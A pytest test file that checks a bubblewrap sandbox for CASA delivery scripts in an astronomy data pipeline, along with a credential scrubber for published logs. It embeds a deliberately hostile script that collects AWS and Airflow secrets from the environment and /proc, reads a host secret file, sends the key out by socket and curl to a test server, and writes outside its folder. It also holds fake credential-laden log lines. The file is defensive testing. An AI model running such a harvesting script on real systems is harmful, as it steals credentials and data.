"""Delivery code in a sandbox (issue 11, item 1): CASA children get no secret, no network,
no write outside their member folder, and the run says what the script tried.

The hostile script runs with real CASA (casashell -c, as a delivery's scripts run) in a
member folder, with secrets in the test's environment, a real HTTP server listening on
this machine, and a secret file beside the member folder. Running it with
ALMA_REGEN_SANDBOX=none is the control: the same script then reaches the server.
"""
import http.server
import json
import logging
import os
import socket
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import pytest

from alma_regen.casa import sandbox
from alma_regen.casa.registry import load_registry
from alma_regen.casa.runner import CasaRunner
from alma_regen.errors import CasaTimeout
from alma_regen.scrub import MASK, scrub, scrub_bytes
from needs import skip_or_fail

PY = sys.executable
SECRET = "wJalrXUtnFEMI-K7MDENG-bPxRfiCYEXAMPLEKEY"
CONN = "postgresql://airflow:Pa55w0rd-of-the-db@db.internal:5432/airflow"
COOKIE = "session=4f1c0ffee-handler-cookie"
MOUS = "uid___A001_X1234_X56"


@pytest.fixture(autouse=True)
def bwrap_works():
    if not os.path.exists(sandbox.BWRAP):
        skip_or_fail("bubblewrap is not installed (apt-get install bubblewrap)")
    try:
        sandbox._probe(sandbox.Sandbox("bwrap"))
    except sandbox.SandboxUnavailable as exc:
        skip_or_fail(str(exc))


@pytest.fixture
def secrets(monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
    monkeypatch.setenv("AIRFLOW_CONN_X", CONN)
    monkeypatch.setenv("ALMA_REQUEST_HANDLER_COOKIE", COOKIE)
    monkeypatch.setenv("AIRFLOW__CORE__FERNET_KEY", "fernet-key-of-the-worker")
    monkeypatch.delenv("ALMA_REGEN_SANDBOX", raising=False)


@pytest.fixture
def http_server():
    """A real HTTP server on every address of this machine; records each request it gets."""
    got = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            got.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"stolen")

        def log_message(self, *a):
            pass

    srv = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Handler)
    threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True).start()
    yield srv.server_address[1], got
    srv.shutdown()
    srv.server_close()


# What a hostile scriptForImagingPrep.py does: every attempt is recorded in found.json
# (in its own folder, which it may write) and printed with the error it got.
HOSTILE = r'''
import glob, json, os, socket, subprocess, sys
port, secret_file, outside, ip, etc = int(PORT), SECRET_FILE, OUTSIDE, HOST_IP, ETC
found = {"env": {k: v for k, v in os.environ.items()
                 if k.startswith(("AWS_", "AIRFLOW")) or "COOKIE" in k}}
# Secrets of other processes (the worker's environment) through /proc.
procs = {}
for p in glob.glob("/proc/[0-9]*/environ"):
    try:
        procs[p] = open(p, "rb").read().count(b"AWS_SECRET_ACCESS_KEY")
    except OSError as exc:
        procs[p] = str(exc)
found["proc_environ_with_secret"] = sorted(p for p, n in procs.items() if n and not isinstance(n, str))
found["processes_seen"] = len(procs)
try:
    found["secret_file"] = open(secret_file).read()
except OSError as exc:
    print("ATTEMPT read host file:", exc)
for host in ("127.0.0.1", ip):
    try:
        s = socket.create_connection((host, port), timeout=5)
        s.sendall(b"GET /socket?k=%s HTTP/1.0\r\n\r\n" % found["env"].get("AWS_SECRET_ACCESS_KEY", "-").encode())
        found.setdefault("socket", []).append(s.recv(100).decode())
    except OSError as exc:
        print("ATTEMPT socket to %s:" % host, exc)
r = subprocess.run(["curl", "-sS", "--max-time", "5", "http://127.0.0.1:%d/curl" % port],
                   capture_output=True, text=True)
print("ATTEMPT curl:", r.returncode, r.stderr.strip())
found["curl"] = r.returncode
for target in (outside, etc, os.path.join(os.path.dirname(os.getcwd()), "..", "pwned")):
    try:
        with open(target, "w") as f:
            f.write("pwned")
        found.setdefault("wrote", []).append(target)
    except OSError as exc:
        print("ATTEMPT write %s:" % target, exc)
found["casa"] = __import__("casatools").version_string()
with open("found.json", "w") as f:
    json.dump(found, f)
print("HOSTILE DONE")
'''


def hostile_member(tmp_path, port, etc="/etc/alma-regen-pwned"):
    """workdir/member.<MOUS>/ with the hostile ImagingPrep in script/, a secret file in workdir/."""
    work = tmp_path / "work"
    member = work / f"member.{MOUS}"
    (member / "script").mkdir(parents=True)
    (member / "calibrated").mkdir()
    (work / "secret.txt").write_text("the worker's secret file")
    host_ip = _host_ip()
    body = HOSTILE.replace("PORT", str(port)).replace("SECRET_FILE", repr(str(work / "secret.txt"))) \
        .replace("OUTSIDE", repr(str(tmp_path / "outside.txt"))).replace("HOST_IP", repr(host_ip)) \
        .replace("ETC", repr(etc))
    script = member / "script" / "scriptForImagingPrep.py"
    script.write_text(body)
    return member, script


def _host_ip() -> str:
    """An address of this machine other than loopback, when it has one."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.connect(("192.0.2.1", 9))  # no packet is sent: this only picks the outgoing interface
        return s.getsockname()[0]
    except OSError:
        return "127.0.0.1"
    finally:
        s.close()


def run_hostile(tmp_path, port, **kw):
    member, script = hostile_member(tmp_path, port, **kw)
    casa = load_registry(config="").modular()
    cwd = member / "calibrated"
    rec = CasaRunner().run(casa.command(script, shell=True), cwd, timeout=300, env={"SPACESAVING": 1})
    return member, cwd, rec, json.loads((cwd / "found.json").read_text())


@pytest.mark.casa
def test_a_hostile_delivery_script_gets_nothing_and_the_run_says_what_it_tried(tmp_path, secrets, http_server,
                                                                                caplog):
    port, requests = http_server
    with caplog.at_level(logging.INFO, logger="alma_regen.casa.runner"):
        member, cwd, rec, found = run_hostile(tmp_path, port)
    assert found["casa"].startswith("6.7.0"), "real CASA ran in the sandbox"
    # No secret: not in its environment, not through /proc (no other process visible).
    assert found["env"] == {}
    assert found["proc_environ_with_secret"] == []
    assert "secret_file" not in found, "the rest of the host is not visible"
    # No network: the server on this machine received nothing, by socket or by curl.
    assert "socket" not in found and found["curl"] != 0
    assert requests == []
    # No write outside the member folder.
    assert "/etc/alma-regen-pwned" not in found.get("wrote", [])
    assert not (tmp_path / "outside.txt").exists()
    assert not (tmp_path / "work" / "pwned").exists()
    assert not Path("/etc/alma-regen-pwned").exists()
    # ...while the member folder itself is writable (found.json is there).
    # The run reports what the script tried: its errors in the output, the refusals as warnings.
    output = "\n".join(caplog.messages)
    assert "ATTEMPT socket to 127.0.0.1:" in output and "ATTEMPT curl: 7" in output
    assert "Read-only file system" in output
    kinds = " | ".join(rec.warnings)
    assert "tried the network" in kinds and "wrote outside its member folder" in kinds, rec.warnings
    assert rec.env["ALMA_REGEN_SANDBOX"] == "bwrap"
    assert not any(SECRET in str(v) or "AWS" in k or "AIRFLOW" in k for k, v in rec.env.items())


@pytest.mark.casa
def test_control_without_the_sandbox_the_same_script_reaches_the_server(tmp_path, secrets, http_server, monkeypatch):
    """The hostile script is able to do harm: with the sandbox off (explicitly), it reaches the
    server and writes outside. Its environment still comes from the allow-list: no secret."""
    monkeypatch.setenv("ALMA_REGEN_SANDBOX", "none")
    port, requests = http_server
    # Unsandboxed, the script would really write into /etc: it gets a stand-in path instead.
    member, cwd, rec, found = run_hostile(tmp_path, port, etc=str(tmp_path / "etc-stand-in"))
    assert requests, "the server got the script's requests"
    assert (tmp_path / "outside.txt").exists()
    assert found["env"] == {}, "the allow-list holds even without the sandbox"
    assert rec.env["ALMA_REGEN_SANDBOX"] == "none"


def test_the_child_environment_is_the_allow_list(tmp_path, secrets, caplog):
    s = tmp_path / "env.py"
    s.write_text("import json, os\nprint('ENV', json.dumps(dict(os.environ)))\n")
    with caplog.at_level(logging.INFO, logger="alma_regen.casa.runner"):
        rec = CasaRunner().run([PY, s], tmp_path, env={"SPACESAVING": 1})
    [dump] = [m[4:] for m in caplog.messages if m.startswith("ENV ")]
    env = json.loads(dump)
    allowed = {"PATH", "LANG", "LANGUAGE", "TZ", "HOME", "TMPDIR", "CASASITECONFIG", "ALMA_REGEN_INCLUDE",
               "ALMA_REGEN_OFFLINE", "ALMA_REGEN_SANDBOX", "MPLBACKEND", "OMP_NUM_THREADS", "PYTHONUNBUFFERED",
               "SPACESAVING", "PWD"}  # PWD: set by the sandbox's /bin/sh
    assert set(env) - allowed <= {k for k in env if k.startswith("LC_")}, sorted(set(env) - allowed)
    assert env["HOME"] == "/tmp" and env["SPACESAVING"] == "1"
    assert rec.env["ALMA_REGEN_SANDBOX"] == "bwrap" and rec.env["SPACESAVING"] == "1"


HANG = """
import os, subprocess, sys, time
subprocess.Popen([sys.executable, "-c",
    "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(600)"])
open(sys.argv[1], "w").write("started")
time.sleep(600)
"""


def _marked(mark: str) -> list:
    """Host pids of the live processes whose environment holds `mark` (the sandbox's pids are its own)."""
    pids = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                if mark.encode() in (d / "environ").read_bytes() and (d / "stat").read_text().split(")")[-1].split()[0] != "Z":
                    pids.append(int(d.name))
            except OSError:
                pass
    return pids


def test_a_timeout_kills_everything_in_the_sandbox(tmp_path):
    """As test_runner's group tests, seen from the host: the sandbox's pids are not the host's."""
    mark = f"alma-regen-test-{uuid.uuid4().hex}"
    started = tmp_path / "started"
    s = tmp_path / "hang.py"
    s.write_text(HANG)
    seen = []

    def watch():
        while not started.exists():
            time.sleep(0.05)
        seen.extend(_marked(mark))

    t = threading.Thread(target=watch, daemon=True)
    t.start()
    with pytest.raises(CasaTimeout, match="killed with its process group"):
        CasaRunner(grace_s=1).run([PY, s, started], tmp_path, timeout=5, env={"TEST_MARK": mark})
    t.join(10)
    assert len(seen) >= 2, f"the child and its grandchild were running: {seen}"
    assert _marked(mark) == []


def test_without_bwrap_a_clear_line_unless_the_site_said_none(tmp_path, monkeypatch):
    s = tmp_path / "ok.py"
    s.write_text("print('ran')\n")
    monkeypatch.setattr(sandbox, "BWRAP", str(tmp_path / "no-bwrap"))
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(sandbox.SandboxUnavailable, match="needs bubblewrap") as exc:
        CasaRunner().run([PY, s], tmp_path)
    assert "\n" not in str(exc.value)
    monkeypatch.setenv("ALMA_REGEN_SANDBOX", "none")
    assert CasaRunner().run([PY, s], tmp_path).returncode == 0


def test_a_kernel_without_namespaces_is_a_clear_line(tmp_path, monkeypatch):
    # Stand-in for bwrap on a kernel that refuses unprivileged user namespaces (a fault this
    # machine cannot be put in without changing a system-wide sysctl): it fails as bwrap does.
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace, likely because the kernel "
                    "does not allow non-privileged user namespaces.' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setattr(sandbox, "BWRAP", str(fake))
    s = tmp_path / "ok.py"
    s.write_text("print('ran')\n")
    with pytest.raises(sandbox.SandboxUnavailable, match="cannot start here: bwrap: No permissions") as exc:
        CasaRunner().run([PY, s], tmp_path)
    assert "\n" not in str(exc.value) and "ALMA_REGEN_SANDBOX=none" in str(exc.value)


def test_an_unknown_sandbox_setting_is_refused(tmp_path, monkeypatch):
    monkeypatch.setenv("ALMA_REGEN_SANDBOX", "off")
    with pytest.raises(sandbox.SandboxUnavailable, match="not one of bwrap, bwrap-strict, none"):
        CasaRunner().run([PY, "-c", "pass"], tmp_path)


def test_strict_forbids_user_namespaces_inside(tmp_path, monkeypatch, caplog):
    s = tmp_path / "ns.py"
    s.write_text("import subprocess\nprint('UNSHARE', subprocess.run(['unshare', '-r', 'true']).returncode)\n")
    for mode, ok in (("bwrap", True), ("bwrap-strict", False)):
        monkeypatch.setenv("ALMA_REGEN_SANDBOX", mode)
        caplog.clear()
        with caplog.at_level(logging.INFO, logger="alma_regen.casa.runner"):
            CasaRunner().run([PY, s], tmp_path)
        assert ("UNSHARE 0" in caplog.messages) is ok, mode


def test_a_step_may_not_make_the_whole_tmp_writable():
    """Outside a member folder a step may write the folder holding its working folder: never /tmp."""
    with tempfile.TemporaryDirectory(dir="/tmp") as cwd:
        with pytest.raises(sandbox.SandboxUnavailable, match="cannot run with /tmp writable"):
            CasaRunner().run([PY, "-c", "pass"], cwd)
    with pytest.raises(sandbox.SandboxUnavailable, match="cannot run with / writable"):
        CasaRunner().run([PY, "-c", "pass"], "/tmp")


LOG = f"""2026-01-01 00:00:00\tINFO\timportasdm::::\tWriting /work/member.{MOUS}/calibrated/x.ms
2026-01-01 00:00:01\tINFO\tcasa::\tenv AWS_SECRET_ACCESS_KEY={SECRET}
2026-01-01 00:00:01\tINFO\tcasa::\taws_access_key_id = AKIAIOSFODNN7EXAMPLE
[default]
aws_secret_access_key = another-secret-in-a-config-file
Authorization: AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20260101/us-east-1/s3/aws4_request
Cookie: session=abcdef0123456789
fetching https://alma:hunter2-password@archive.example.org/dataPortal/x.tar
db {CONN} and its password Pa55w0rd-of-the-db alone
curl -H "X-Token: x" --data password=letmein123 http://h/
2026-01-01 00:00:02\tINFO\ttclean::::\tpsfcutoff=0.35 niter=1000 threshold=0.1mJy
"""


def test_the_scrubber_removes_credentials(monkeypatch):
    monkeypatch.setenv("AIRFLOW_CONN_X", CONN)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    out = scrub(LOG)
    for leak in (SECRET, "AKIAIOSFODNN7EXAMPLE", "another-secret-in-a-config-file", "abcdef0123456789",
                 "hunter2-password", "Pa55w0rd-of-the-db", CONN, "letmein123", "AWS4-HMAC-SHA256 Credential"):
        assert leak not in out, leak
    assert MASK in out
    # What is not a credential stays as it was.
    assert out.splitlines()[0] == LOG.splitlines()[0]
    assert out.splitlines()[-1] == LOG.splitlines()[-1]
    assert "https://alma:" + MASK + "@archive.example.org/dataPortal/x.tar" in out
    assert scrub_bytes(b"\xff\xfe binary password=x1 \x00") == b"\xff\xfe binary password=" + MASK.encode() + b" \x00"


def test_published_casa_logs_are_scrubbed(tmp_path, seaweedfs, monkeypatch):
    """Through publish() to a real S3 store: the published log holds no credential."""
    from alma_regen.products import publish
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.setenv("AIRFLOW_CONN_X", CONN)
    member = tmp_path / f"member.{MOUS}"
    (member / "imaging" / "products").mkdir(parents=True)
    (member / "imaging" / "products" / "x.image.pbcor.fits").write_bytes(b"SIMPLE  =                    T" + b" " * 2850)
    (member / "calibrated").mkdir()
    (member / "calibrated" / "casa-20260101-000000.log").write_text(LOG)
    client, bucket = seaweedfs.client(), seaweedfs.bucket("scrub")
    manifest = publish.publish(member, f"s3://{bucket}/alma", run="r1", client=client)
    [log_key] = [o["key"] for o in manifest["outputs"] if o["key"].startswith("logs/")]
    body = client.get_object(Bucket=bucket, Key=f"alma/{MOUS}/r1/{log_key}")["Body"].read().decode()
    assert SECRET not in body and "Pa55w0rd-of-the-db" not in body and "hunter2-password" not in body
    assert MASK in body and "tclean::::\tpsfcutoff=0.35" in body


def test_links_into_another_member_are_read_only_and_links_elsewhere_lead_nowhere(tmp_path, caplog):
    """A member reusing another's calibrated MSs (or a shared raw cache) by a link sees them read-only;
    a link to any other place of the host (a hostile delivery's) shows nothing."""
    mine = tmp_path / "a" / f"member.{MOUS}"
    other = tmp_path / "b" / "member.uid___A001_X9_X9" / "calibrated" / "working"
    other.mkdir(parents=True)
    (other / "x.ms").write_text("shared\n")
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / "credentials").write_text(SECRET)
    (mine / "calibrated").mkdir(parents=True)
    (mine / "calibrated" / "working").symlink_to(other)
    (mine / "calibrated" / "evil").symlink_to(tmp_path / "home")
    with caplog.at_level(logging.INFO, logger="alma_regen.casa.runner"):
        rec = CasaRunner().run(["/bin/sh", "-c", "cat working/x.ms; cat evil/credentials; echo y > working/y; "
                                "echo mine > mine.txt"], mine / "calibrated", strict=False)
    assert "shared" in caplog.messages and SECRET not in "\n".join(caplog.messages)
    assert not (other / "y").exists() and (mine / "calibrated" / "mine.txt").read_text() == "mine\n"
    assert any("wrote outside its member folder" in w for w in rec.warnings)
